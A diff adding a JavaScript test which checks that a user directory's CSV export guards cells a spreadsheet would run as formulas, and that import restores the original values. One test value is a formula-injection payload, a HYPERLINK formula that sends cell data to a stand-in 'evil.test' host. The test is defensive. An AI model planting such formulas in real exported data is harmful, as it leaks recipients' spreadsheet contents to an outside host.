@@ -372,3 +372,59 @@ test('a NUL byte in a cell is a row error naming its column, via the CLI and the
   assert.ok(final.errors.every((e) => typeof e.message === 'string' && e.message.length > 0));
   assert.deepEqual((await users(org2)).map((u) => u.email), ['nulapi.three@import.test']);
 });
+
+test('export guards cells a spreadsheet would run as formulas; import takes the guard off again', async () => {
+  const org = await newOrg();
+  const evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
+  const made = [
+    { first_name: '@SUM(1+1)', last_name: evil, email: 'f.one@formula.test', mobile: '+31612345678', job_title: '-2+3' },
+    { first_name: 'Piet', infix: "'t", last_name: 'Hart', email: 'f.two@formula.test', job_title: "'=quoted already" },
+    { first_name: '+Plus', last_name: 'Minus-Sign', email: '-dash@formula.test', job_title: 'a=b' },
+  ];
+  for (const u of made) {
+    const r = await s.req('POST', `/api/v1/orgs/${org}/users`, { token: s.adminToken, body: { ...u, invite: false } });
+    assert.equal(r.status, 201, JSON.stringify(r.body));
+  }
+  const ex = cli(['export', ...dbArgs(), '--org', org]);
+  assert.equal(ex.status, 0, ex.stderr);
+  const lines = ex.stdout.split('\r\n');
+  // no cell starts with = + - @ (quoted or not), a tab or a CR
+  for (const l of lines.slice(1)) assert.doesNotMatch(l, /(^|,)"?[=+\-@\t\r]/, l);
+  const one = lines.find((l) => l.includes('f.one@formula.test'));
+  assert.ok(one.startsWith(`,'@SUM(1+1),,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",f.one@formula.test,,,'+31612345678,'-2+3,`), one);
+  const two = lines.find((l) => l.includes('f.two@formula.test'));
+  assert.ok(two.startsWith(",Piet,'t,Hart,f.two@formula.test,,,,''=quoted already,"), two);
+  const three = lines.find((l) => l.includes('dash@formula.test'));
+  assert.ok(three.startsWith(",'+Plus,,Minus-Sign,'-dash@formula.test,,,,a=b,"), three);
+  // the JSON export is not for spreadsheets: the values as they are
+  const json = JSON.parse(cli(['export', ...dbArgs(), '--org', org, '--format', 'json']).stdout);
+  assert.equal(json.find((u) => u.email === 'f.one@formula.test').last_name, evil);
+
+  // into a fresh installation and out again: the same bytes, the same values
+  const out = file(ex.stdout);
+  const dir = mkdtempSync(join(tmpdir(), 'sb-import-formula-'));
+  try {
+    const init = cli(['init', '--data', dir, '--admin-email', 'root@formula.test', '--admin-password', 'Grand-Canyon-81-Rock']);
+    assert.equal(init.status, 0, init.stderr);
+    const fresh = init.stdout.match(/customer organization: .* \(([0-9a-f-]{36})\)/)[1];
+    const imp = cli(['import', '--data', dir, '--org', fresh, out]);
+    assert.equal(imp.status, 0, imp.stderr + imp.stdout);
+    const again = cli(['export', '--data', dir, '--org', fresh]);
+    assert.equal(again.stdout, ex.stdout);
+    const back = JSON.parse(cli(['export', '--data', dir, '--org', fresh, '--format', 'json']).stdout);
+    for (const u of made) {
+      const b = back.find((x) => x.email === u.email);
+      for (const k of ['first_name', 'infix', 'last_name', 'mobile', 'job_title']) assert.equal(b[k], u[k], `${u.email} ${k}`);
+    }
+  } finally { rmSync(dir, { recursive: true, force: true }); }
+
+  // a file written by hand: a guard before a formula or a number comes off, other quotes stay
+  const org2 = await newOrg();
+  const hand = runImport(org2, "email,first_name,last_name,mobile,job_title\nh.one@formula.test,' 'Jan,'t Hart,'+31 6 12345678,' =1\n");
+  assert.equal(hand.status, 0, hand.stderr + hand.stdout);
+  const h = byEmail(await users(org2), 'h.one@formula.test');
+  assert.equal(h.first_name, "' 'Jan");
+  assert.equal(h.last_name, "'t Hart");
+  assert.equal(h.mobile, '+31612345678');
+  assert.equal(h.job_title, '=1');
+});
